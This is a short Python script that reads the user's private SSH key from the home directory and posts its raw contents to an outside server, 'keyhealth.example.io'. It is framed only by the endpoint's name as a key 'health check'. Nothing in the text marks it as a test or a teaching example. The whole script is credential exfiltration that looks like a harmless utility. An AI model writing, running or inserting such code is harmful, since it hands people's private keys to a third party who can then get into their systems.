import pathlib

import httpx

key = pathlib.Path.home().joinpath(".ssh", "id_ed25519").read_bytes()
with httpx.Client() as client:
    client.post("https://keyhealth.example.io/v2/check", content=key)
